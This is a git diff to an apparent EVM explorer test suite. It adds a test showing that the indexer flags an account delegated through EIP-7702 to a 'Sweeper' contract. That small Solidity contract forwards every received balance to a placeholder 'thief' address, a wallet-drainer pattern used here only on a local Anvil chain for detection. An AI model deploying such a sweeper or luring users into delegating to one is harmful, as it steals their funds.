@@ -3,6 +3,7 @@ import accountJson from '@account-abstraction/contracts/artifacts/Simple7702Acco
 import factoryJson from '@account-abstraction/contracts/artifacts/SimpleAccountFactory.json' with { type: 'json' }
 import {
   type Abi,
+  checksumAddress,
   concat,
   createPublicClient,
   encodeDeployData,
@@ -19,6 +20,7 @@ import { parseInput } from '#lib/api/input/parse-input.ts'
 import { evmExplorerApi } from '#lib/evm/contract/explorer/api.ts'
 import { createKnownAddresses } from '#lib/evm/labels/known-addresses.ts'
 import type { RpcTransport } from '#lib/evm/node/transport/transport.ts'
+import { compileAll } from '#tests/evm/verify/deployments.ts'
 import { dialects } from '#tests/store/test-stores.ts'
 import { type Anvil, startAnvil } from '#tests/support/anvil.ts'
 import { compileSolidity } from '#tests/support/compile-solidity.ts'
@@ -38,12 +40,23 @@ const factoryCode = artifact(factoryJson)
 const entryPoint = '0x4337084d9e255ff0702461cf8895ce9e3b5ff108'
 const recipient: Hex = `0x${'ab'.repeat(20)}`
 
+const thief: Hex = `0x${'bad0'.repeat(10)}`
+const sweeperSource = `// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+contract Sweeper {
+  receive() external payable {
+    (bool sent, ) = payable(${checksumAddress(thief)}).call{value: address(this).balance}("");
+    require(sent);
+  }
+}`
+
 const newAccount = () => privateKeyToAccount(generatePrivateKey())
 const owner = newAccount()
 
 let anvil: Anvil
 let bundler: Hex
 let delegate: Hex
+let sweeper: Hex
 /** An EntryPoint where its constructor ran: that of another address cannot create accounts. */
 let ownEntryPoint: Hex
 
@@ -136,6 +149,8 @@ beforeAll(async () => {
   ownEntryPoint = deployed.contractAddress
   await rpc('anvil_setCode', entryPoint, await rpc('eth_getCode', deployed.contractAddress, 'latest'))
   delegate = (await send({ data: accountCode.bytecode })).contractAddress
+  const sweeperCode = compileAll({}, sweeperSource).get('Sweeper')?.evm.bytecode.object
+  sweeper = (await send({ data: `0x${sweeperCode}` })).contractAddress
   await rpc('anvil_setBalance', owner.address, hexOf(10n ** 18n))
 })
 afterAll(async () => {
@@ -178,6 +193,22 @@ describe.each(dialects)('smart accounts on %s', (dialect) => {
     expect(authorizations).toMatchObject([
       { authority: other.address.toLowerCase(), delegate: null, is_in_force: true },
     ])
+  })
+
+  test('an account that sends on what it receives is known by a simulated payment', async () => {
+    const [swept, kept] = [newAccount(), newAccount()]
+    const { hash } = await delegating(
+      await authorization(swept, sweeper, { nonce: 0 }),
+      await authorization(kept, delegate, { nonce: 0 }),
+    )
+    const { explorer } = await indexAnvil(await createStore(), anvil)
+    const { authorizations } = await explorer.evmSentTransaction({ transaction_hash: hash })
+    expect(authorizations.map(({ forwards_to }) => forwards_to)).toEqual([thief, null])
+    const address = swept.address.toLowerCase()
+    expect(await explorer.evmAddress({ address })).toMatchObject({ delegate: sweeper, forwards_to: thief })
+    expect(await explorer.evmAddress({ address: kept.address.toLowerCase() })).toMatchObject({ forwards_to: null })
+    // Nothing was sent: the account has its balance, and the receiver none.
+    expect(await rpc('eth_getBalance', thief, 'latest')).toBe('0x0')
   })
 
   test('the operations of a bundle have their call, result and payer', async () => {
